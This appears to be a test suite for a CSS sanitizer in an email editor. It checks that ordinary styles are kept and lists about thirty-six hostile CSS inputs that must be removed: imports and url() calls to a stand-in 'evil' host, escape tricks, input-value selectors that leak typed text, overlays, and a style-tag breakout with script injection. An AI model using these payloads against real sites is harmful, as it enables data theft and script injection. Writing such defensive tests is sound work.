import { describe, expect, test } from 'bun:test'
import fc from 'fast-check'
import { cleanCustomCss } from '../../../src/email/sanitize/index.ts'
import { runs } from '../../support/runs.ts'

const css = (source: string) => cleanCustomCss(source).css

describe('a host’s style sheet for the editor keeps', () => {
  test.each([
    ['looks', '.svc-panel{background:#fff;color:red}', '.svc-panel{background:#fff;color:red}'],
    ['the tokens of the theme', ':root{--svc-accent:#0a0}', ':root{--svc-accent:#0a0}'],
    [
      'functions that compute',
      '.a{width:calc(100% - 2px);color:light-dark(#000,#fff)}',
      '.a{width:calc(100% - 2px);color:light-dark(#000,#fff)}',
    ],
    ['variables', 'a{color:var(--svc-accent,red)}', 'a{color:var(--svc-accent,red)}'],
    ['gradients', 'a{background:linear-gradient(#000,#fff)}', 'a{background:linear-gradient(#000,#fff)}'],
    [
      'questions about the surroundings',
      '@media (max-width:600px){.a{color:red}}',
      '@media (max-width:600px){.a{color:red}}',
    ],
    ['nested rules', '.a{color:red;&:hover{color:blue}}', '.a{color:red;&:hover{color:blue}}'],
    ['hiding what has a class', '.svc-toolbar *.a{display:none}', '.svc-toolbar *.a{display:none}'],
    ['what matters', 'a{color:red!important}', 'a{color:red!important}'],
    ['names with braces in escapes', '\\{{color:red}', '\\{{color:red}'],
    ['names that look like rules', '\\@import{color:red}', '\\@import{color:red}'],
    ['fonts that there are', 'a{font-family:"Inter", sans-serif}', 'a{font-family:"Inter",sans-serif}'],
  ])('%s', (_, source, kept) => {
    expect(css(source)).toBe(kept)
  })
})

// The seventeen attacks that were measured, and others of their kinds.
const attacks: [name: string, source: string, kept: string][] = [
  ['an import', '@import url(http://evil/x.css);', ''],
  [
    'hiding everything',
    '*{display:none!important}:root *{opacity:0;color:red}html,.a{max-height:0}',
    ':root *{color:red}',
  ],
  ['hiding everything, nested', '.a{& *{display:none}}.b{:not(.c){width:0}}', ''],
  ['an import in escapes', '@\\69mport "x";', ''],
  ['an address', '.a{background:url(http://evil/?x)}', ''],
  ['an address in escapes', '.a{background:\\75rl(http://evil)}', ''],
  ['an address around a comment', '.a{background:u/**/rl(http://evil)}', ''],
  ['an address as a text', '.a{background:image-set("http://evil" 1x)}', ''],
  ['an old address', '.a{background:-webkit-image-set("http://evil" 1x)}', ''],
  ['an address in a token', '.a{--svc-accent:url(http://e)}', ''],
  ['an address in a token, in escapes', '.a{--svc-accent:\\75 rl(http://e)}', ''],
  ['another token', '.a{--secret:1;color:red}', '.a{color:red}'],
  ['a selector that reads what is typed', 'input[value^="a"]{background:#fff}', ''],
  ['the same in escapes', 'input[\\76 alue^="a"]{background:#fff}', ''],
  ['the same inside another', '.a:has(input[value^="a"]) b,.c{background:#fff}', ''],
  ['the same, nested', '.a{input[value^="a"] &{color:red}}', ''],
  ['lying over other things', '.a{position:fixed;inset:0;z-index:9999}', ''],
  ['moving things', '.a{transform:translate(9px);translate:9px;clip-path:none;float:left}', ''],
  ['a font from elsewhere', '@font-face{font-family:x;src:url(http://e)}', ''],
  ['the end of the style element', '.a{color:red}</style><script>alert(1)</script>', '.a{color:red}'],
  ['the end of the style element in a text', '.a{font-family:"</style>"}', ''],
  ['words of its own', '.a{content:"</style>"}', ''],
  ['an expression', '.a{width:expression(alert(1))}', ''],
  ['a behaviour', '@media (max-width:600px){.a{color:red;behavior:url(x)}}', '@media (max-width:600px){.a{color:red}}'],
  [
    'an address in a nested rule',
    '.a{color:red;&:hover{color:blue;background:image-set("http://e" 1x)}}',
    '.a{color:red;&:hover{color:blue}}',
  ],
  ['braces that end what is around', 'a{b:c}}}}.z{color:red}', ''],
  ['braces in a selector', '.a}{color:red}', ''],
  ['what reads attributes', '.a{width:attr(data-x px);color:env(x)}', ''],
  ['animations', '@keyframes x{to{color:red}}.a{animation:x 1s}', ''],
  ['a namespace', '@namespace svg url(http://e);', ''],
  ['the words of a comment in HTML', '<!-- .a{color:red} --> .b{color:red}', '.a{color:red}.b{color:red}'],
  ['a page', '@page{margin:0}', ''],
  ['a condition that cannot be read', '@media {{}{.a{color:red}}', ''],
  ['a layer without a block', '@layer reset;', ''],
  ['what a text that never ends leaves open', '.a{color:red}.b{font-family:"x', '.a{color:red}.b{font-family:"x"}'],
  ['display as a ruse', '.a{display:-webkit-box}', ''],
]

describe('a host’s style sheet for the editor loses', () => {
  test.each(attacks)('%s', (_, source, kept) => {
    const cleaned = cleanCustomCss(source)
    expect(cleaned.css).toBe(kept)
    expect(css(cleaned.css)).toBe(cleaned.css)
  })

  test('and reports what it loses', () => {
    expect(cleanCustomCss('.a{position:fixed;color:red;background:url(x)}@import "y";').dropped).toEqual([
      'position',
      'background with a URL or a function',
      '@import',
    ])
    expect(cleanCustomCss('a{x:y}'.repeat(500)).dropped).toHaveLength(20)
  })
})

describe('the sanitized sheet', () => {
  test.each(['[', '(', '{'])('does not depend on a sheet with %s read before', (bracket) => {
    const source = '{]-->:}<!--color:red::]{()<!--'
    const before = cleanCustomCss(source)
    css(bracket.repeat(60))
    expect(cleanCustomCss(source)).toEqual(before)
  })

  const pieces = [
    'a',
    '.b',
    '{',
    '}',
    '(',
    ')',
    '[',
    ']',
    ';',
    ':',
    '"',
    "'",
    '\\',
    '/*',
    '*/',
    '@media',
    '@import',
    'url(',
    'color:red',
    '--svc-x:',
    '<!--',
    '-->',
    '</style>',
    '&',
    ',',
    ' ',
    '\n',
    '\0',
    '!important',
    'calc(',
    'é',
  ]
  test('contains no URL, is well-formed, and is unchanged by a second pass', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (words) => {
        const out = css(words.join(''))
        expect(css(out)).toBe(out)
        // A sign after a backslash is part of a name.
        const read = out.replace(/\\\W/g, '')
        expect(read).not.toMatch(/url\(|@import|<|\\75/i)
        const outside = read.replace(/"[^"]*"/g, '')
        expect(outside.split('{').length).toBe(outside.split('}').length)
      }),
      { numRuns: runs(700) },
    )
  })
})
